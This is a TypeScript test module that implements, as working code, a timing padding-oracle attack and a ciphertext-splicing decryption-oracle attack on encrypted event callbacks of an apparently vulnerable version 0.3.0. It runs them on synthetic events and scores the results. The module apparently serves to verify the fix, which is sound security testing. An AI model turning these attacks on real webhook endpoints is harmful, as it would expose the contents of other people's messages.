// The two attacks that decrypted captured callbacks of 0.3.0 without its key, as programs.
import { fromBase64, join, seal, toBase64, toBytes } from "../support/platform-callbacks.ts";
import { ENCRYPT_KEY, TOKEN } from "./unsigned-bodies.ts";

type Bytes = Uint8Array<ArrayBuffer>;

const BLOCK = 16;
const block = (bytes: Bytes, at: number): Bytes => bytes.slice(at * BLOCK, (at + 1) * BLOCK);
const bodyOf = (...blocks: Uint8Array[]): Bytes => toBytes({ encrypt: toBase64(join(...blocks)) });
const xor = (...parts: Uint8Array[]): Bytes =>
  Uint8Array.from({ length: BLOCK }, (_, at) => parts.reduce((byte, part) => byte ^ (part[at] as number), 0));

const words = "the release is ready for you and the rest of the team so please have a look at it today ".repeat(3);

/** The plain text of a message, as the platform sends it. */
const plainEvent = () =>
  JSON.stringify({
    schema: "2.0",
    header: {
      event_id: crypto.randomUUID(),
      token: TOKEN,
      create_time: "1700000000000",
      event_type: "im.message.receive_v1",
    },
    event: { message: { message_id: "om_1", content: words } },
  });

/** An event that was captured: its ciphertext, and what is in it, for the judge. */
async function capture(plain = plainEvent()): Promise<{ sealed: Bytes; plain: Bytes }> {
  return { sealed: fromBase64(await seal(plain, ENCRYPT_KEY)), plain: toBytes(plain) };
}

/** Sends a body so many times, and resolves to how long that took. */
export type Probe = (body: Bytes, times: number) => Promise<number>;

/** What an attack got. */
export interface Loot {
  readonly requests: number;
  /** Bytes, or messages, that were guessed. */
  readonly tried: number;
  readonly right: number;
}

const TIMES = 8;
const GUESSES = 256;

/**
 * The time of a refusal as a padding oracle: the last byte of some blocks of a captured event.
 *
 * Before the block stands one of ours, whose last byte is guessed: where the guess is right, the padding is. In front are as
 * many blocks as a URL check has. For each guess the median of all rounds counts, and of the 256 the quickest and the
 * slowest are taken for right.
 */
export async function paddingAttack(probe: Probe, requests: number, bytes = 4, blocks = 10): Promise<Loot> {
  const { sealed, plain } = await capture();
  const rounds = Math.max(Math.floor(requests / (bytes * GUESSES * TIMES)), 3);
  let right = 0;
  for (let target = 2; target < 2 + bytes; target++) {
    const before = crypto.getRandomValues(new Uint8Array(blocks * BLOCK));
    const times = Array.from({ length: GUESSES }, () => [] as number[]);
    const order = times.map((_, guess) => guess);
    for (let round = 0; round < rounds; round++) {
      order.sort(() => Math.random() - 0.5);
      for (const guess of order) {
        before[before.length - 1] = guess;
        times[guess]?.push(await probe(bodyOf(before, block(sealed, target)), TIMES));
      }
    }
    const medians = times.map((all) => all.sort((a, b) => a - b)[all.length >> 1] as number);
    const quickest = medians.indexOf(Math.min(...medians));
    const slowest = medians.indexOf(Math.max(...medians));
    // guess ^ 1 is what the cipher makes of the block, and with the block before it the plain text.
    const truth = (plain[target * BLOCK - 1] as number) ^ (sealed[target * BLOCK - 1] as number) ^ 1;
    right += +(quickest === truth || slowest === truth);
  }
  return { requests: rounds * bytes * GUESSES * TIMES, tried: bytes, right };
}

/** Sends a body, and resolves to the challenge that came back. */
export type Ask = (body: Bytes) => Promise<string | undefined>;

/**
 * The URL check as a decryption oracle: blocks of a captured event between a first block of ours and the end of a captured
 * URL check, which brings the right token along. What comes back as the challenge is the event's text.
 *
 * The attacker has as many captured events as he likes.
 */
export async function spliceAttack(ask: Ask, requests: number): Promise<Loot> {
  const challenge = "5634b122-c042-4634-bc7f-b07a3c3e77ad";
  const check = fromBase64(
    await seal(JSON.stringify({ challenge, token: TOKEN, type: "url_verification" }), ENCRYPT_KEY),
  );
  let sent = 0;
  let right = 0;
  let tried = 0;
  while (sent < requests) {
    const { sealed, plain } = await capture();
    tried++;
    // A block in the words, whose text the attacker knows, becomes the beginning of a URL check.
    for (let from = 16; from < 22 && sent < requests; from++) {
      const iv = xor(block(sealed, from - 1), block(plain, from - 1), toBytes('{"challenge":"xy'));
      for (let length = 1; length <= 6 && sent < requests; length++) {
        // The end of the check, from within its challenge.
        for (let end = 2; end <= 3 && sent < requests; end++) {
          const text = sealed.slice(from * BLOCK, (from + 1 + length) * BLOCK);
          const echoed = await ask(bodyOf(iv, text, check.slice(end * BLOCK)));
          sent++;
          right += +!!echoed;
        }
      }
    }
  }
  return { requests: sent, tried, right };
}
